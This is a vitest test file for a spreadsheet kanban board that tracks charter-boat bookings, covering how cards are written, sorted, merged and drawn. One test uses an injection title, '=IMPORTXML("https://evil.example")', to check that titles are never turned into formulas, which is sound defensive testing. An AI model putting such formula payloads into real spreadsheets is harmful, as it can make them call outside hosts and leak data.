import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { KanbanCard } from '../src/projections/kanban.ts';
import { buildTabs, type TabsProject } from './support/tabs-project.ts';

let built: Awaited<ReturnType<typeof buildTabs>>;
let tabs: TabsProject;
beforeAll(async () => {
  built = await buildTabs();
});
afterAll(() => built.remove());
beforeEach(async () => {
  tabs = await built.openSetUp();
});
afterEach(() => tabs.close());

const golden: KanbanCard = {
  bookingId: 'XHQGMDH',
  lane: 'New Bookings',
  title: 'Boatsetter — May 30 (3h)',
  date: '2027-05-30',
  grossCents: 84075,
  crewCents: 25000,
  captainCents: 15000,
  portFeeCents: 15134,
  netCents: 28941,
  crewReplies: '',
  guestPageUrl: 'https://queenofsandiego.com/g/xhqgmdh',
};
const cardOf = (bookingId: string, changes: Partial<KanbanCard> = {}) => ({
  ...golden,
  bookingId,
  ...changes,
});
const kanban = () => {
  const sheet = tabs.workbook.sheetNamed('Kanban');
  if (!sheet) throw new Error('No Kanban');
  return sheet;
};
const cards = () => tabs.run<KanbanCard[]>('kanbanCards');
const put = (put: KanbanCard[], remove: string[] = []) => tabs.run('putCards', [put, remove]);
/** Below the line that says whether the automation runs. */
const board = () => tabs.shown('Board').slice(1);

describe('the kanban', () => {
  test('a card shows as currency and a day, holds numbers, and comes back to the cent', async () => {
    await put([golden]);
    expect(tabs.shown('Kanban')[1]).toEqual([
      'New Bookings',
      'Boatsetter — May 30 (3h)',
      'Sun, May 30, 2027',
      '$840.75',
      '$250.00',
      '$150.00',
      '$151.34',
      '$289.41',
      '',
      'https://queenofsandiego.com/g/xhqgmdh',
      'XHQGMDH',
    ]);
    for (let column = 3; column <= 8; column += 1)
      expect(typeof kanban().cell(2, column)?.value).toBe('number');
    expect(await cards()).toEqual([golden]);
  });

  test('a loss is a negative number', async () => {
    await put([cardOf('LOSS-1', { netCents: -1205 })]);
    expect(kanban().cell(2, 8)?.value).toBe(-12.05);
    expect((await cards())[0]?.netCents).toBe(-1205);
  });

  test('days keep through the nights when clocks change', async () => {
    const days = [
      '2027-03-13',
      '2027-03-14',
      '2027-03-15',
      '2027-11-06',
      '2027-11-07',
      '2027-11-08',
      '2028-02-29',
    ];
    await put(days.map((date, index) => cardOf(`DAY-${index}`, { date })));
    expect((await cards()).map(({ date }) => date)).toEqual(days);
  });

  test('a changed card changes its own row, wherever it was sorted to, and a new one goes below', async () => {
    await put([cardOf('AAA'), cardOf('BBB'), cardOf('CCC')]);
    kanban().sort({ row: 2, column: 1, rows: 3, columns: 11 }, [{ column: 11, ascending: false }]);
    await put([cardOf('bbb', { netCents: 1 }), cardOf('DDD')]);
    expect(tabs.shown('Kanban').map((row) => [row[10], row[7]])).toEqual([
      ['Booking ID', 'Net'],
      ['CCC', '$289.41'],
      ['bbb', '$0.01'],
      ['AAA', '$289.41'],
      ['DDD', '$289.41'],
    ]);
  });

  test("the lanes of cards that aren't moved are not written, nor anything when nothing changes", async () => {
    await put([cardOf('AAA'), cardOf('BBB'), cardOf('CCC')]);
    kanban().update({ row: 3, column: 1, rows: 1, columns: 1 }, (cell) => ({
      ...cell,
      value: 'Reconciled',
      formula: '=A9',
    }));
    await put([cardOf('AAA', { lane: 'Crew Invited' }), cardOf('CCC', { lane: 'Crew Invited' })]);
    expect(kanban().cell(3, 1)).toMatchObject({ value: 'Reconciled', formula: '=A9' });
    expect((await cards()).map(({ lane }) => lane)).toEqual(['Crew Invited', 'Reconciled', 'Crew Invited']);
    const again = await tabs.execute('putCards', [await cards()]);
    expect(again.counts.spreadsheet).toBe(1);
  });

  test('a removed card leaves no cell behind; a card that is not there is no error', async () => {
    await put([cardOf('AAA'), cardOf('BBB')]);
    await put([], ['aaa', 'ZZZ']);
    expect(tabs.shown('Kanban')[1]?.every((text) => text === '')).toBe(true);
    expect((await cards()).map(({ bookingId }) => bookingId)).toEqual(['BBB']);
    await put([cardOf('AAA')]);
    await put([], ['AAA', 'BBB']);
    expect(tabs.shown('Kanban')).toHaveLength(1);
  });

  test('copies of a card are merged into the first; what the captain added beside them stays', async () => {
    await put([cardOf('AAA'), cardOf('BBB')]);
    kanban().type(1, 12, 'Tip');
    kanban().type(4, 12, '20');
    for (let column = 1; column <= 11; column += 1) {
      kanban().setValue(4, column, kanban().cell(2, column)?.value ?? '');
    }
    kanban().type(4, 11, 'aaa');
    kanban().type(4, 1, 'Reconciled');
    expect(await cards()).toHaveLength(2);
    await put([]);
    expect(tabs.shown('Kanban')[3]).toEqual([...Array(11).fill(''), '20']);
    expect((await cards()).map(({ bookingId, lane }) => [bookingId, lane])).toEqual([
      ['AAA', 'New Bookings'],
      ['BBB', 'New Bookings'],
    ]);
  });

  test('rows without a booking id are the captain’s own', async () => {
    tabs.fill('Kanban', [{ Card: 'Haul out', Lane: 'Completed' }]);
    await put([golden]);
    expect(tabs.shown('Kanban')[1]?.slice(0, 2)).toEqual(['Completed', 'Haul out']);
    expect(await cards()).toEqual([golden]);
  });

  test.each([3, 12])(
    '%i cards with rows of the captain between them leave these as they are',
    async (count) => {
      const ids = Array.from({ length: count }, (_, index) => `CARD-${index}`);
      await put(ids.map((id) => cardOf(id)));
      for (let row = count + 1; row > 2; row -= 1) kanban().insertRows(row, 1);
      kanban().type(3, 8, '=SUM(H2:H2)');
      kanban().type(5, 2, 'Haul out');
      await put(ids.map((id) => cardOf(id, { netCents: 100 })));
      expect(kanban().cell(3, 8)?.formula).toBe('=SUM(H2:H2)');
      expect(tabs.shown('Kanban')[4]?.[1]).toBe('Haul out');
      expect((await cards()).map(({ bookingId, netCents }) => [bookingId, netCents])).toEqual(
        ids.map((id) => [id, 100]),
      );
    },
  );

  test('what is spoiled by hand is put right by the next change', async () => {
    await put([golden]);
    kanban().type(2, 8, 'a lot');
    kanban().type(2, 3, 'some day');
    await put([golden]);
    expect(await cards()).toEqual([golden]);
  });

  test('no title becomes a formula, in the kanban or on the board', async () => {
    const evil = cardOf('EVIL', { title: '=IMPORTXML("https://evil.example") — May 30 (3h)' });
    kanban().update({ row: 2, column: 2, rows: 1, columns: 1 }, () => ({ value: '' }));
    await put([evil]);
    expect(kanban().cell(2, 2)).toMatchObject({ value: evil.title });
    expect(kanban().cell(2, 2)?.formula).toBeUndefined();
    await tabs.run('drawCards', [[evil]]);
    expect(tabs.workbook.sheetNamed('Board')?.cell(3, 1)?.value).toMatch(/^[^=]+=IMPORTXML/);
  });

  test('one card costs three calls, 25 new ones no more, and the grid grows when it is full', async () => {
    const calls = async (given: KanbanCard[]) => (await tabs.execute('putCards', [given])).counts.spreadsheet;
    expect(await calls([golden])).toBe(3);
    expect(await calls([cardOf('XHQGMDH', { netCents: 5 })])).toBe(2);
    const many = Array.from({ length: 25 }, (_, index) => cardOf(`BOOK-${index}`));
    expect(await calls(many)).toBe(3);
    kanban().deleteRows(28, 973);
    await put(Array.from({ length: 10 }, (_, index) => cardOf(`MORE-${index}`)));
    expect(await cards()).toHaveLength(36);
  });
});

describe('the board', () => {
  test('lanes stand across with counts and totals, the earliest charter on top', async () => {
    await tabs.run('drawCards', [
      [
        cardOf('LATE', { date: '2027-06-02', title: 'Airbnb — June 2 (2h)' }),
        golden,
        cardOf('DONE', { lane: 'Completed', netCents: -100, crewReplies: '3 of 3 confirmed' }),
      ],
    ]);
    const [heads, first, second] = board();
    expect(heads?.map((head) => head.split('\n')[0])).toEqual([
      'New Bookings (2)',
      'Crew Invited (0)',
      'Crew Confirmed (0)',
      'Completed (1)',
      'Reconciled (0)',
      'Cancelled (0)',
    ]);
    expect(heads?.[0]).toContain('$1,681.50');
    expect(heads?.[0]).toContain('$578.82');
    expect(first?.[0]?.split('\n')).toEqual([
      'Boatsetter — May 30 (3h)',
      'gross $840.75',
      'crew $250.00 · captain $150.00 · port $151.34',
      'net $289.41',
    ]);
    expect(first?.[3]).toContain('net -$1.00\n3 of 3 confirmed');
    expect(second?.[0]).toMatch(/^Airbnb — June 2 \(2h\)\n/);
  });

  test('titles are bold and the rest is not', async () => {
    await tabs.run('drawCards', [[golden]]);
    const runs = tabs.workbook.sheetNamed('Board')?.cell(3, 1)?.richText?.runs ?? [];
    const bold = runs.filter(({ style }) => style.bold).map(({ start, end }) => [start, end]);
    expect(bold).toEqual([[0, golden.title.length]]);
  });

  test('it is drawn with one read and one write, and not at all when it stands', async () => {
    const many = Array.from({ length: 40 }, (_, index) => cardOf(`BOOK-${index}`));
    const draw = (given: KanbanCard[]) => tabs.execute('drawCards', [given]);
    expect((await draw(many)).counts.spreadsheet).toBe(2);
    const again = await draw(many.toReversed());
    expect(again.result).toBe(false);
    expect(again.counts.spreadsheet).toBe(1);
  });

  test('cards that left are wiped off', async () => {
    await tabs.run('drawCards', [[cardOf('AAA'), cardOf('BBB'), cardOf('CCC')]]);
    await tabs.run('drawCards', [[cardOf('AAA', { lane: 'Cancelled' })]]);
    expect(board()).toHaveLength(2);
    expect(board()[1]?.slice(0, 5)).toEqual(['', '', '', '', '']);
  });
});
